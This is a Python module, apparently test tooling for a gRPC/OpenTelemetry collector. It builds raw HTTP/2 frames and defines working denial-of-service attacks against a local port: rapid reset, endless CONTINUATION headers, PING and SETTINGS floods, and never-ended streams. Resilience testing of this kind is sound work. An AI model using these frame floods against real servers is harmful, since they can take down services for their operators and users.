"""A small HTTP/2 client (the h2 library) for what grpcio will not send, and attacks written as frames."""

import socket
import struct
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, HEADERS, RST_STREAM, PING, CONTINUATION = 4, 1, 3, 6, 9


class H2Client:
    def __init__(self, port):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=20)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.conn.initiate_connection()
        self._flush()
        self.port = port

    def _flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def grpc(self, method, frame, headers=None):
        """One unary call whose message frame is given whole: response headers and trailers as one dict."""
        stream = self.conn.get_next_available_stream_id()
        self.conn.send_headers(
            stream,
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", method),
                (":authority", f"127.0.0.1:{self.port}"),
                ("te", "trailers"),
                ("content-type", "application/grpc"),
                *(headers or {}).items(),
            ],
        )
        self._flush()
        got, at, ended = {}, 0, False
        while not ended:
            while at < len(frame) and stream in self.conn.streams:
                try:
                    room = min(self.conn.local_flow_control_window(stream), self.conn.max_outbound_frame_size)
                    if room == 0:
                        break
                    self.conn.send_data(stream, frame[at : at + room], end_stream=at + room >= len(frame))
                except h2.exceptions.ProtocolError:
                    break
                at += room
                self._flush()
            data = self.sock.recv(65536)
            if not data:
                return got
            for event in self.conn.receive_data(data):
                if (
                    isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived))
                    and event.stream_id == stream
                ):
                    got.update(event.headers)
                elif isinstance(event, h2.events.DataReceived):
                    self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)) and event.stream_id == stream:
                    ended = True
                elif isinstance(event, h2.events.ConnectionTerminated):
                    return got
            self._flush()
        return got

    def stop(self):
        self.sock.close()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """HPACK: literal header field without indexing, no Huffman."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


REQUEST = (
    b"\x83\x86"
    + literal(b":path", b"/opentelemetry.proto.collector.trace.v1.TraceService/Export")
    + literal(b":authority", b"x")
    + literal(b"content-type", b"application/grpc")
    + literal(b"te", b"trailers")
)


def send_until_refused(port, pieces, seconds=3.0):
    """Writes pieces until the peer closes or the time is over. What happened, in words."""
    sent, end = 0, time.monotonic() + seconds
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.sendall(PREFACE + frame(SETTINGS, 0, 0))
        s.settimeout(0.5)
        try:
            for piece in pieces:
                s.sendall(piece)
                sent += 1
                if time.monotonic() > end:
                    return f"still open after {sent} pieces"
        except (ConnectionError, TimeoutError) as e:
            return f"{type(e).__name__} after {sent} pieces"
    return f"all {sent} pieces taken"


def rapid_reset(port):
    def pieces():
        for i in range(1, 40001, 2):
            yield frame(HEADERS, 4, i, REQUEST) + frame(RST_STREAM, 0, i, struct.pack(">I", 8))

    return send_until_refused(port, pieces())


def endless_continuation(port):
    def pieces():
        yield frame(HEADERS, 0, 1, REQUEST)
        for i in range(100000):
            yield frame(CONTINUATION, 0, 1, literal(b"x-%d" % i, b"y" * 100) * 10)

    return send_until_refused(port, pieces())


def ping_flood(port):
    return send_until_refused(port, (frame(PING, 0, 0, b"12345678") * 20 for _ in range(20000)))


def settings_flood(port):
    return send_until_refused(port, (frame(SETTINGS, 0, 0) * 20 for _ in range(20000)))


def open_streams(port):
    def pieces():
        for i in range(1, 20001, 2):
            yield frame(HEADERS, 4, i, REQUEST)

    return send_until_refused(port, pieces())


ATTACKS = {
    "rapid reset": rapid_reset,
    "endless CONTINUATION": endless_continuation,
    "PING flood": ping_flood,
    "SETTINGS flood": settings_flood,
    "streams never ended": open_streams,
}
